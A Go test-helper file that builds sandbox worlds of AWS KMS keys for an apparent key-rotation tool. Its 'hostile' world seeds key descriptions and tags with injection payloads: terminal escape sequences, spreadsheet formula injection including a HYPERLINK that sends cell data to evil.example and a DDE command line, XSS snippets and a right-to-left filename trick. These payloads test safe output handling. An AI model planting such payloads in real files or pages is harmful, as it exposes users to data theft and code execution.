package main

import (
	"crypto/ed25519"
	"crypto/rand"
	"encoding/pem"
	"fmt"
	"iter"
	"os"
	"strings"
	"time"

	"golang.org/x/crypto/ssh"

	"github.com/keyrotor/keyrotor/internal/sandbox"
)

// worldNamed is a built-in world, or one of those that the tests need beside
// them: few, slow (where a rotation on demand takes five minutes), instant (where it
// takes no time at all), and hostile.
func worldNamed(name string) (sandbox.WorldSpec, sandbox.Options, error) {
	o := sandbox.Options{Rand: sandbox.Seeded(1), RotationTakes: 200 * time.Millisecond}
	switch name {
	case "none":
		return sandbox.WorldSpec{}, o, nil
	case "few":
		return few(), o, nil
	case "hostile":
		return hostile(), o, nil
	case "instant":
		o.RotationTakes = -1
		return few(), o, nil
	case "slow":
		o.RotationTakes = 5 * time.Minute
		return few(), o, nil
	}
	w, err := sandbox.World(name)
	return w, o, err
}

// oneAccount is a world of one account and one Region; ago dates its keys.
func oneAccount(name string, seeds func(ago func(days int) time.Time) []sandbox.KeySeed) sandbox.WorldSpec {
	keys := func(start time.Time) iter.Seq2[string, sandbox.KeySeed] {
		all := seeds(func(days int) time.Time { return start.Add(-time.Duration(days) * 24 * time.Hour) })
		return func(yield func(string, sandbox.KeySeed) bool) {
			for _, seed := range all {
				if !yield("us-east-1", seed) {
					return
				}
			}
		}
	}
	return sandbox.WorldSpec{
		Name: name, Organization: "o-" + name + "0world00", Management: sandbox.Management,
		Accounts: []sandbox.AccountSpec{{ID: sandbox.Management, Name: "only", Since: 900, On: []string{"us-east-1"}, Keys: keys}},
	}
}

// few has two keys that could rotate and do not, and three that do: small enough
// to follow every call.
func few() sandbox.WorldSpec {
	return oneAccount("few", func(ago func(int) time.Time) []sandbox.KeySeed {
		rotating := func(name string) sandbox.KeySeed {
			return sandbox.KeySeed{
				Aliases: []string{"alias/" + name}, Created: ago(800), RotationSince: ago(800), RotationPeriodDays: 365,
				Tags: map[string]string{"env": "prod", "owner": name},
			}
		}
		guarded, spent := rotating("guarded"), rotating("spent")
		guarded.Policy = guardedPolicy
		for i := range 25 {
			spent.OnDemandAt = append(spent.OnDemandAt, ago(30+20*i))
		}
		return []sandbox.KeySeed{
			{Aliases: []string{"alias/orders"}, Created: ago(800), Tags: map[string]string{"env": "dev", "owner": "orders"}},
			{Aliases: []string{"alias/payments"}, Created: ago(800), Tags: map[string]string{"env": "prod", "owner": "payments"}},
			rotating("ledger"), guarded, spent,
		}
	})
}

// many has n keys that could rotate and do not.
func many(n int) sandbox.WorldSpec {
	return oneAccount("many", func(ago func(int) time.Time) []sandbox.KeySeed {
		var seeds []sandbox.KeySeed
		for i := range n {
			seeds = append(seeds, sandbox.KeySeed{
				Aliases: []string{fmt.Sprintf("alias/k%02d", i)}, Created: ago(800), Tags: map[string]string{"env": []string{"dev", "prod"}[i%2]},
			})
		}
		return seeds
	})
}

// hostile has keys whose descriptions and tags are not harmless to print.
func hostile() sandbox.WorldSpec {
	return oneAccount("hostile", func(ago func(int) time.Time) []sandbox.KeySeed {
		var seeds []sandbox.KeySeed
		for i, text := range []string{
			"\x1b[2J\x1b[1;31mALL KEYS DELETED\x1b[0m\x07",
			"\x1b]0;owned\x07 title",
			`=HYPERLINK("http://evil.example/?"&A1,"details")`,
			"+1+1 looks like a sum", "-2+3", "@SUM(1+1)", "=cmd|' /C calc'!A0",
			"<script>alert('kms')</script>", "<img src=x onerror=alert(1)>",
			"two\r\nlines,\tand \"quotes\" | and bars",
			"a\u202egnp.exe", "\u009b31m one byte of escape",
			strings.Repeat("very long ", 820)[:8192],
		} {
			seeds = append(seeds, sandbox.KeySeed{
				Aliases: []string{fmt.Sprintf("alias/h%02d", i)}, Created: ago(800 + i), Description: text,
				Tags: map[string]string{"owner": text[:min(len(text), 200)], "note": text[:min(len(text), 200)]},
			})
		}
		return seeds
	})
}

// guardedPolicy lets people in by the key's tag env.
const guardedPolicy = `{"Version":"2012-10-17","Statement":[
 {"Effect":"Allow","Principal":{"AWS":"arn:aws:iam::111111111111:root"},"Action":"kms:*","Resource":"*"},
 {"Effect":"Allow","Principal":{"AWS":"arn:aws:iam::111111111111:role/app"},"Action":"kms:Decrypt","Resource":"*",
  "Condition":{"StringEquals":{"aws:ResourceTag/env":"prod"}}}]}`

// writeSSHKey makes path and path.pub, and returns the public half as it stands
// in authorized_keys.
func writeSSHKey(path, comment string) (string, error) {
	_, private, err := ed25519.GenerateKey(rand.Reader)
	if err != nil {
		return "", err
	}
	block, err := ssh.MarshalPrivateKey(private, comment)
	if err != nil {
		return "", err
	}
	if err := os.WriteFile(path, pem.EncodeToMemory(block), 0o600); err != nil {
		return "", err
	}
	signer, err := ssh.NewSignerFromKey(private)
	if err != nil {
		return "", err
	}
	public := string(ssh.MarshalAuthorizedKey(signer.PublicKey()))
	return public, os.WriteFile(path+".pub", []byte(public), 0o644)
}
